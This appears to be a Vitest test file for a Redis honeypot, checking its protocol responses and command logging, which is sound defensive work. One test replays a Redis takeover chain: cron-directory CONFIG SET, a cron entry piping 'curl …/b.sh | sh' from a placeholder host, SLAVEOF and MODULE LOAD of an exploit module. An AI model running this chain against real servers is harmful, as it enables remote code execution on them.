import { randomBytes } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { rawClient } from '../limits/test-support/raw-client.js';
import { aServiceDeps } from '../limits/test-support/service-deps.js';
import type { RunningService } from '../service.js';
import { startRedisService } from './redis-service.js';

const deps = aServiceDeps({ maxInputBytes: 4096 });
let service: RunningService;
beforeAll(async () => {
  service = await startRedisService({ host: '127.0.0.1', port: 0 }, deps);
});
afterAll(async () => {
  await service.close();
});

const cmd = (...args: string[]): string => `*${args.length}\r\n${args.map((a) => `$${Buffer.byteLength(a)}\r\n${a}\r\n`).join('')}`;

describe('Redis honeypot with a raw TCP client', () => {
  it('answers the cron-write attack over RESP and logs every command', async () => {
    const c = await rawClient(service.port);
    c.send(cmd('PING'));
    await c.waitFor('+PONG\r\n');
    c.send(cmd('CONFIG', 'SET', 'dir', '/var/spool/cron/') + cmd('CONFIG', 'SET', 'dbfilename', 'root'));
    c.send(cmd('SET', 'x', '\n*/1 * * * * curl -fsSL http://203.0.113.5/b.sh | sh\n') + cmd('CONFIG', 'GET', 'dir') + cmd('SAVE'));
    await c.waitFor('$16\r\n/var/spool/cron/\r\n+OK\r\n');
    c.send(cmd('SLAVEOF', '203.0.113.5', '8886') + cmd('MODULE', 'LOAD', '/tmp/exp.so') + cmd('system.exec', 'id'));
    await c.waitFor('unknown command `system.exec`');
    expect(c.text()).toContain('-ERR Error loading the extension');
    c.send(cmd('INFO'));
    await c.waitFor('redis_version:5.0.7');
    c.send(cmd('QUIT'));
    await c.closed;
    const logged = deps.sink.byId('waggle.redis.command').map((e) => [e.command, ...e.args].join(' '));
    expect(logged).toEqual(expect.arrayContaining([
      'PING', 'CONFIG SET dir /var/spool/cron/', 'CONFIG SET dbfilename root', 'SAVE', 'SLAVEOF 203.0.113.5 8886', 'MODULE LOAD /tmp/exp.so', 'SYSTEM.EXEC id',
    ]));
    expect(deps.sink.byId('waggle.redis.command')[0]).toMatchObject({ protocol: 'redis', message: 'Redis command: PING' });
  });

  it('accepts inline commands with quotes', async () => {
    const c = await rawClient(service.port);
    c.send('set greeting "hello world"\r\nget greeting\r\nkeys *\r\n');
    await c.waitFor('*1\r\n$8\r\ngreeting\r\n');
    expect(c.text()).toContain('+OK\r\n$11\r\nhello world\r\n');
    c.end();
  });

  it('cuts an oversized request with an error and closes the connection', async () => {
    const c = await rawClient(service.port);
    c.send(`*2\r\n$3\r\nSET\r\n$999999\r\n${'A'.repeat(5000)}`);
    await c.closed;
    expect(c.text()).toContain('-ERR Protocol error: invalid bulk length');
    const inline = await rawClient(service.port);
    inline.send('A'.repeat(10_000));
    await inline.closed;
    expect(inline.text()).toContain('-ERR Protocol error');
  });

  it('survives binary garbage and keeps serving', async () => {
    for (let i = 0; i < 20; i += 1) {
      const g = await rawClient(service.port);
      g.send(Buffer.concat([Buffer.from('*'), randomBytes(2000)]));
      g.end();
    }
    const c = await rawClient(service.port);
    c.send('PING\r\n');
    await c.waitFor('+PONG');
    c.end();
  });
});
